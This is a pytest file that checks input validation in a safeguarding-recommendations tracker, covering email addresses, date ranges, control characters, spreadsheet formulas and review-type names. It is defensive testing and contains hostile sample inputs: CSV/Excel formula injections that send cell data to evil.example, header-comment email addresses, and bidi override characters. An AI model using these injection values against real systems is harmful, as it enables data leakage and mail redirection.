"""One rule per kind of input (addresses, dates, text, formulas, action ids, vocabularies),
applied the same by the payloads, the importer, the forms and the API (issue 14: A3, B8, B9,
C12, D18)."""

from __future__ import annotations

from datetime import date, datetime, timedelta
from email.utils import getaddresses
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from activities.mail.message import SMTP_POLICY, addressed_message
from devtools import plan_files as pf
from gateway.workflows import DecisionNotTaken, parse_decision
from models.addresses import ADDRESS_PATTERN, AddressError, check_address, is_address
from models.calendar import CalendarError, add_duration, add_working_days, subtract_duration
from models.days import check_day
from models.lifecycle import _check_action_specs
from models.payloads import (
    ActionState,
    AgreeActionsInput,
    EscalationPolicy,
    Priority,
    Recommendation,
    ReportProgressInput,
    RequestExtensionInput,
    SourceKind,
)
from models.plain_text import clean_text
from plans.sheets import is_formula, read_plan_file
from plans.validate import check_plan, parse_date
from tests import factories as f
from tests.helpers import today
from tests.web.test_api import api, tokens, two_recommendations  # noqa: F401  (fixtures)
from web.forms import parse_form

DAY = date(2026, 3, 2)
# What the message builder would change (so mail goes elsewhere) or refuse (so the batch fails).
BUILDER_CHANGES = [
    "hdr(comment)@evil.example.org",  # sent to hdr@evil.example.org
    "Bob <bob@example.org>",
    "mary.o\u2019brien@example.org",  # Excel's curly apostrophe: the builder raises
    "jos\u00e9@example.org",
    "a@b\u00fccher.example",  # re-encoded as an RFC 2047 word
    "a..b@example.org",
    "a@example.org, b@example.org",
]
# Sent as given, but not an address a person in the registry has: refused by the rule too.
ALSO_REFUSED = ['"a b"@example.org', "a@[192.0.2.1]", "a@localhost", ""]


def problems_of(path: Path, *, stored=([], [], [])) -> list[str]:
    sheets, problems = read_plan_file(path)
    if problems:
        return [str(p) for p in problems]
    _, problems = check_plan(sheets, stored=stored, today=DAY)
    return [str(p) for p in problems]


def as_sent(address: str) -> tuple[str, list[str], bytes]:
    """The To header, the SMTP envelope (as ``Relay.send`` takes it) and the flattened header."""
    message = addressed_message(
        mail_from="Assure <assure@mk.example>", recipient=address, subject="s", message_id="<1@mk.example>",
        sent_at=datetime(2026, 1, 1),
    )  # fmt: skip
    envelope = [found for _, found in getaddresses([str(message["To"])])]
    raw = next(line for line in message.as_bytes(policy=SMTP_POLICY).split(b"\r\n") if line.startswith(b"To:"))
    return str(message["To"]), envelope, raw


# --- A3: one address rule ---------------------------------------------------------------------


class TestAddresses:
    @given(st.from_regex(ADDRESS_PATTERN, fullmatch=True) | st.text(max_size=40))
    def test_every_accepted_address_is_sent_exactly_as_given(self, candidate):
        """Any address the rule accepts reaches the To header, the envelope and the wire unchanged."""
        if not is_address(candidate):
            return
        header, envelope, raw = as_sent(candidate)
        assert (candidate, [candidate], b"To: " + candidate.encode("ascii")) == (header, envelope, raw)

    @pytest.mark.parametrize("address", BUILDER_CHANGES)
    def test_what_the_builder_would_change_or_refuse_is_refused(self, address):
        """Comments, names, several addresses and non-ASCII are refused: the builder would not send them as given."""
        with pytest.raises(AddressError):
            check_address(address)
        try:
            sent = as_sent(address)
        except Exception:  # the builder refuses it: the mail batch would fail
            return
        assert (address, [address], b"To: " + address.encode()) != sent

    @pytest.mark.parametrize("address", ALSO_REFUSED)
    def test_quoted_parts_literals_and_bare_hosts_are_refused(self, address):
        """Quoted local parts, IP literals and one-label domains are refused, with a reason."""
        with pytest.raises(AddressError, match="is not an email address: "):
            check_address(address)

    def test_a_curly_apostrophe_is_refused_with_the_fix(self):
        """Excel's curly apostrophe is named and the straight one suggested."""
        with pytest.raises(AddressError, match="use a straight apostrophe ' instead"):
            check_address("mary.o\u2019brien@example.org")
        assert "mary.o'brien@example.org" == check_address(" Mary.O'Brien@Example.org ")

    def test_the_importer_names_the_cell_and_the_fix(self, tmp_path):
        """A curly apostrophe and a comment in People are refused at their sheet, row and column."""
        rows = pf.plan(DAY)
        rows["People"][4]["email"] = "mary.o\u2019brien@icb.example.org"
        rows["Agencies"][1]["safeguarding_lead_email"] = "hdr(comment)@evil.example.org"
        found = problems_of(pf.write_yaml(rows, tmp_path / "plan.yaml"))
        assert any(
            p.startswith("People, row 5, email: 'mary.o\u2019brien@icb.example.org' is not an email address")
            and "use a straight apostrophe ' instead" in p
            for p in found
        ), found
        assert any(p.startswith("Agencies, row 2, safeguarding_lead_email:") and "comment" in p for p in found), found

    def test_decisions_and_forms_use_the_same_rule(self):
        """A reassignment to a commented address is refused by the payload (API 422) and by the form."""
        with pytest.raises(DecisionNotTaken) as caught:
            parse_decision(
                "reassign_owner", {"by": f.SPONSOR, "action_id": "A1", "new_owner": "hdr(x)@evil.example.org",
                                   "reason": "leave"},
            )  # fmt: skip
        assert "InvalidInput" == caught.value.type and "comment" in caught.value.fields["new_owner"]
        form = parse_form(
            "reassign_owner", {"action_id": "A1", "new_owner": "Bob <bob@mk.example>", "reason": "r"}, by=f.SPONSOR
        )
        assert "without a name or angle brackets" in form.errors["new_owner"]


# --- B8: every date in range; arithmetic never overflows ------------------------------------


class TestDates:
    @pytest.mark.parametrize("writer", [pf.write_yaml, pf.write_xlsx])
    def test_excels_ongoing_serial_is_refused_at_its_cell(self, tmp_path, writer):
        """Excel's serial 2958465 (31/12/9999) as a due date is refused, naming the cell."""
        rows = pf.plan(DAY)
        rows["Actions"][0]["due_date"] = 2958465
        yaml = writer is pf.write_yaml
        found = problems_of(writer(rows, tmp_path / ("plan.yaml" if yaml else "plan.xlsx")))
        row = 1 if yaml else 2  # a workbook's first row is its header
        assert [p for p in found if p.startswith(f"Actions, row {row}, due_date: 9999-12-31 is not a date Assure")]

    def test_a_rebased_date_that_cannot_move_is_refused_not_crashed(self, tmp_path):
        """A far date with a rebase shift is reported, never an OverflowError."""
        rows = pf.plan(DAY)
        rows["Actions"][0]["due_date"] = "9999-12-31"
        sheets, _ = read_plan_file(pf.write_yaml(rows, tmp_path / "plan.yaml"))
        _, problems = check_plan(sheets, today=DAY, shift=timedelta(days=400))
        assert any(str(p).startswith("Actions, row 1, due_date: 9999-12-31 is not a date") for p in problems)

    def test_far_extension_and_due_dates_are_refused_by_the_payload(self):
        """An extension or a new due date of 9999-12-31 is refused (API 422), naming the field."""
        for name in ("request_extension", "change_due_date"):
            with pytest.raises(DecisionNotTaken) as caught:
                parse_decision(name, {"by": f.OWNER, "action_id": "A1", "new_due": "9999-12-31", "reason": "r"})
            assert "between 2000 and 2100" in caught.value.fields["new_due"]
        with pytest.raises(ValidationError):
            RequestExtensionInput(by=f.OWNER, action_id="A1", new_due=date(1999, 12, 31), reason="r")
        assert date(2100, 12, 31) == check_day(date(2100, 12, 31))

    def test_the_form_says_the_same_range(self):
        """The extension form refuses year 9999 with the range."""
        form = {"action_id": "A1", "reason": "r", "new_due-day": "31", "new_due-month": "12", "new_due-year": "9999"}
        assert "between 2000 and 2100" in parse_form("request_extension", form, by=f.OWNER).errors["new_due"]

    def test_date_arithmetic_raises_a_domain_error_never_overflow(self):
        """Moving the last date Python holds raises CalendarError, in every mode."""
        for move in (
            lambda: add_duration(date.max, "P1D", working_days=False),
            lambda: add_duration(date.max, "P1M", working_days=False),
            lambda: add_duration(date.max, "P1D", working_days=True),
            lambda: subtract_duration(date.min, "P1D", working_days=False),
            lambda: add_working_days(date(2115, 12, 30), 10),
        ):
            with pytest.raises(CalendarError):
                move()

    def test_every_accepted_date_and_duration_stays_in_the_calendar(self):
        """The latest accepted date plus the longest accepted duration, in working days, can be counted."""
        longest = "P1826D"
        EscalationPolicy(assurance_after=longest)
        assert add_duration(date(2100, 12, 31), longest, working_days=True) > date(2100, 12, 31)
        assert subtract_duration(date(2000, 1, 1), longest, working_days=True) < date(2000, 1, 1)
        with pytest.raises(ValidationError, match="longer than five years"):
            EscalationPolicy(assurance_after="P100Y")


# --- B9: text the store refuses never enters --------------------------------------------------


class TestText:
    @pytest.mark.parametrize("bad", ["a\x00b", "a\x1bb", "a\u202eb", "a\u2066b", "a\u2028b", "a\u2029b"])
    def test_controls_bidi_and_separators_are_refused_in_payloads(self, bad):
        """NUL, other controls, direction overrides and line separators are refused, naming the field."""
        with pytest.raises(ValidationError) as caught:
            Recommendation(**{**f.recommendation().model_dump(), "title": bad})
        assert ("title",) == caught.value.errors()[0]["loc"] and "character 2" in caught.value.errors()[0]["msg"]

    def test_multi_line_text_keeps_its_lines_and_single_line_text_has_none(self):
        """A note keeps tabs and newlines (Windows line ends made plain); a short field refuses a line break."""
        note = ReportProgressInput(by=f.OWNER, action_id="A1", note="one\r\ntwo\tthree  ")
        assert "one\ntwo\tthree" == note.note
        with pytest.raises(ValidationError, match="line break"):
            Recommendation(**{**f.recommendation().model_dump(), "source_title": "a\nb"})
        assert "plain" == clean_text("plain", multiline=False)

    def test_a_nul_past_the_first_8_kib_is_refused_at_its_cell(self, tmp_path):
        """The importer checks every cell of the file, however far in."""
        rows = pf.plan(DAY)
        rows["Actions"][0]["description"] = "x" * 9000  # the NUL comes after the first 8 KiB
        rows["Actions"][4]["success_measure"] = "Seen in\x00 9 of 10"
        found = problems_of(pf.write_csv(rows, tmp_path / "plan.csv"), stored=_stored(rows))
        assert [p for p in found if p.startswith("CSV, row 7, success_measure: character 8 is a NUL")], found

    def test_yaml_escapes_are_refused_at_their_cell(self, tmp_path):
        """A YAML "\\0" or "\\u202E" escape is refused like the character itself, in any column."""
        path = tmp_path / "plan.yaml"
        pf.write_yaml(pf.plan(DAY), path)
        text = (
            path.read_text()
            .replace("Do A1 for IMP-1", '"Do A1\\0 for IMP-1"')
            .replace("name: Sponsor", 'name: "Sp\\u202Eonsor"')
        )
        path.write_text(text)
        found = problems_of(path)
        assert "Actions, row 1, description: character 6 is a NUL character (U+0000); remove it" in found, found
        assert any(
            p.startswith("People, row 1, name: character 3 is an invisible text-direction control") for p in found
        )

    def test_forms_refuse_the_same_characters(self):
        """A progress note with a direction override is refused on the form, at its field."""
        form = parse_form("report_progress", {"action_id": "A1", "note": "done\u202e"}, by=f.OWNER)
        assert form.errors["note"].startswith("Character 5 is an invisible text-direction control")


# --- C12: formulas, date-times, case, empty plans ---------------------------------------------


def _stored(rows):
    from plans.sheets import Sheet

    sheets = {
        name: Sheet(name, list(rows[name][0]), [(i + 1, row) for i, row in enumerate(rows[name])])
        for name in ("Agencies", "People", "Boards")
    }
    plan, _ = check_plan({**sheets, "Recommendations": Sheet("Recommendations", rows=[(1, {})])}, today=DAY)
    return plan.agencies, plan.people, plan.boards


class TestOneRuleEach:
    @pytest.mark.parametrize(
        "cell", [' =HYPERLINK("http://evil.example","x")', "\u00a0=1+1", '"=1+1', "'+1", "-2+3", "  @SUM(1)", "\t1"]
    )
    def test_a_formula_after_spaces_or_quotes_is_a_formula(self, cell):
        """Leading whitespace or quotes do not hide a formula."""
        assert is_formula(cell)

    @pytest.mark.parametrize("cell", ["-", "Brief every team", "Think family", "2+2 teams", "a = b"])
    def test_plain_text_is_not_a_formula(self, cell):
        """Text, and a lone dash as a placeholder, are not formulas."""
        assert not is_formula(cell)

    @pytest.mark.parametrize("writer", [pf.write_yaml, pf.write_csv, pf.write_xlsx])
    def test_a_leading_space_formula_is_refused_in_every_format(self, tmp_path, writer):
        """` =HYPERLINK(...)` is refused like `=` in a CSV, a workbook and YAML."""
        rows = pf.plan(DAY)
        rows["Actions"][0]["description"] = ' =HYPERLINK("http://evil.example/?"&A1,"Click")'
        suffix = {pf.write_yaml: ".yaml", pf.write_csv: ".csv", pf.write_xlsx: ".xlsx"}[writer]
        found = problems_of(writer(rows, tmp_path / f"plan{suffix}"), stored=_stored(rows))
        assert [p for p in found if p.endswith("description: formulas are not accepted: type the value")], found

    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ("2024-01-01T25:99", None),
            ("2024-01-01junk", None),
            ("2024-01-01T10:30", date(2024, 1, 1)),
            ("2024-01-01 10:30:00", date(2024, 1, 1)),
            ("2024-01-01", date(2024, 1, 1)),
        ],
    )
    def test_date_times_parse_strictly(self, value, expected):
        """A date with an impossible time is no date at all."""
        assert expected == parse_date(value)

    def test_action_ids_differing_in_case_are_one_id_in_the_payload(self):
        """A1 and a1 in one decision are refused, as on import."""
        actions = [f.action("A1", date(2030, 1, 1)), f.action("a1", date(2030, 1, 1))]
        with pytest.raises(ValidationError, match="used more than once"):
            AgreeActionsInput(by=f.SPONSOR, actions=actions)

    def test_action_ids_differing_in_case_are_one_id_on_the_recommendation(self):
        """A new action a1 on a recommendation that has A1 is refused by the lifecycle's check."""
        existing = [ActionState(**f.action("A1", date(2030, 1, 1)).model_dump(), assigned_on=date(2026, 1, 1))]
        with pytest.raises(Exception, match="already used on this recommendation"):
            _check_action_specs([f.action("a1", date(2030, 1, 1))], existing=existing, today=date(2026, 1, 1))

    @pytest.mark.parametrize("writer", [pf.write_yaml, pf.write_xlsx])
    def test_an_empty_recommendations_sheet_is_nothing_to_import(self, tmp_path, writer):
        """A plan whose Recommendations sheet has no rows is refused, as one without the sheet is."""
        rows = {**pf.plan(DAY), "Recommendations": [], "Actions": [], "Plans": []}
        found = problems_of(writer(rows, tmp_path / ("plan.yaml" if writer is pf.write_yaml else "plan.xlsx")))
        assert ["Recommendations: the file has no recommendations or cycles, so there is nothing to import"] == found


async def test_the_api_applies_the_same_rules(env, start, api, database_url, tmp_path):  # noqa: F811
    """Over HTTP: an empty plan is 400, a far date and a commented address 422, a1 beside A1 refused."""
    headers = api.as_("secretary@mk.example")
    rows = {**pf.plan(await today(env), "EMPTY"), "Recommendations": [], "Actions": [], "Plans": []}
    upload = {"file": ("plan.yaml", pf.write_yaml(rows, tmp_path / "plan.yaml").read_bytes(), "application/yaml")}
    empty = await api.post("/api/plans", files=upload, headers=headers)
    assert 400 == empty.status_code
    assert "nothing to import" in empty.json()["problems"][0]["reason"]

    await two_recommendations(env, start, database_url)
    url = "/api/recommendations/API-1/decisions"
    far = await api.post(f"{url}/request_extension", json={"action_id": "A1", "new_due": "9999-12-31", "reason": "r"},
                         headers=api.as_(f.OWNER))  # fmt: skip
    assert 422 == far.status_code and "between 2000 and 2100" in far.json()["fields"]["new_due"]
    commented = await api.post(
        f"{url}/reassign_owner", json={"action_id": "A1", "new_owner": "hdr(c)@evil.example.org", "reason": "r"},
        headers=api.as_(f.SPONSOR),
    )  # fmt: skip
    assert 422 == commented.status_code and "new_owner" in commented.json()["fields"]
    day = await today(env)
    again = f.action("a1", day + timedelta(days=30)).model_dump(mode="json")
    twice = await api.post(f"{url}/add_actions", json={"actions": [again]}, headers=api.as_(f.SPONSOR))
    assert 409 == twice.status_code and "already used" in twice.json()["message"]


# --- D18: the names people write ----------------------------------------------------------------


class TestVocabulary:
    @pytest.mark.parametrize(
        ("written", "kind"),
        [
            ("SAR", SourceKind.sar),
            ("Safeguarding Adult Review", SourceKind.sar),
            ("rapid review", SourceKind.rapid_review),
            ("Rapid review", SourceKind.rapid_review),
            ("Child Safeguarding Practice Review", SourceKind.cspr),
            ("CSPR", SourceKind.cspr),
            ("DHR", SourceKind.dhr),
            ("Domestic Homicide Review", SourceKind.dhr),
            ("learning_review", SourceKind.learning_review),
        ],
    )
    def test_a_source_kind_is_read_from_its_names_in_any_case(self, written, kind):
        """Full names and abbreviations, in any case, name the kind."""
        assert kind == Recommendation(**{**f.recommendation().model_dump(), "source_kind": written}).source_kind

    @pytest.mark.parametrize(
        ("written", "priority"), [("High", Priority.high), ("LOW", Priority.low), ("medium", Priority.medium)]
    )
    def test_a_priority_is_read_in_any_case(self, written, priority):
        """High, HIGH and high are one priority."""
        assert priority == Recommendation(**{**f.recommendation().model_dump(), "priority": written}).priority

    def test_the_importer_reads_the_names_people_write(self, tmp_path):
        """A plan saying SAR, Rapid review, DHR and High imports with no problems."""
        rows = pf.plan(DAY)
        for row, kind in zip(rows["Recommendations"], ["SAR", "Rapid review", "Child Safeguarding Practice Review",
                                                        "DHR", "Domestic Homicide Review"], strict=True):  # fmt: skip
            row.update(source_kind=kind, priority="High")
        sheets, _ = read_plan_file(pf.write_xlsx(rows, tmp_path / "plan.xlsx"))
        plan, problems = check_plan(sheets, today=DAY)
        assert [] == problems
        kinds = [r.start.recommendation.source_kind for r in plan.recommendations]
        assert [SourceKind.sar, SourceKind.rapid_review, SourceKind.cspr, SourceKind.dhr, SourceKind.dhr] == kinds

    def test_the_template_drop_downs_show_full_names(self, tmp_path):
        """The template offers full names, and its example row (written in them) is a valid plan."""
        from openpyxl import load_workbook

        from plans.workbook import write_template

        path = tmp_path / "template.xlsx"
        write_template(path)
        formulas = [v.formula1 for v in load_workbook(path)["Recommendations"].data_validations.dataValidation]
        assert any("Safeguarding Adult Review" in x and "Rapid review" in x for x in formulas), formulas
        assert '"High,Medium,Low"' in formulas
        sheets, _ = read_plan_file(path)
        assert [] == check_plan(sheets, today=date(2023, 4, 1))[1]
